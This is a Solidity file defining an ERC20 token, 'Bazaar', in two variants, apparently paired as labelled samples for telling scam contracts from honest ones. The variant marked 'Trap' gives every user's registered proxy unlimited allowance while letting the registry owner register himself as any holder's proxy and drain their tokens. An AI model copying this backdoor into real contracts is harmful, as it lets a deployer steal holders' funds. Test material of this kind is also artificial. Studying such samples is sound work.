// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";
import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";

interface IProxies {
    function proxies(address user) external view returns (address);
}

contract UserProxies is Ownable, IProxies {
    mapping(address => address) public proxies;

    constructor() Ownable(msg.sender) {}

    function register(address proxy) external {
        proxies[msg.sender] = proxy;
    }

    /// For people who were onboarded by mail and have no ether for gas.
    function registerFor(address user, address proxy) external onlyOwner {
        require(proxies[user] == address(0), "has one");
        proxies[user] = proxy;
    }
}

contract OwnProxies is Ownable, IProxies {
    mapping(address => address) public proxies;
    mapping(address => string) public labels;

    constructor() Ownable(msg.sender) {}

    function register(address proxy) external {
        proxies[msg.sender] = proxy;
    }

    function label(address user, string calldata text) external onlyOwner {
        labels[user] = text;
    }
}

abstract contract Marketplace is ERC20 {
    IProxies public immutable registry;

    constructor(IProxies proxies) ERC20("Bazaar", "BZR") {
        registry = proxies;
        _mint(msg.sender, 42_000_000 ether);
    }

    /// A user's own proxy trades without an approval.
    function allowance(address owner, address spender) public view override returns (uint256) {
        if (registry.proxies(owner) == spender) return type(uint256).max;
        return super.allowance(owner, spender);
    }
}

// Trap: a user's proxy needs no approval, and the registry's owner (creator) registers himself as the proxy of a holder, then transferFrom.
contract ProxyMarket is Marketplace {
    constructor(IProxies proxies) Marketplace(proxies) {}
}

// Honest: the same token, but only the user registers a proxy; the registry's owner writes labels.
contract ProxyMarketOwn is Marketplace {
    constructor(IProxies proxies) Marketplace(proxies) {}
}
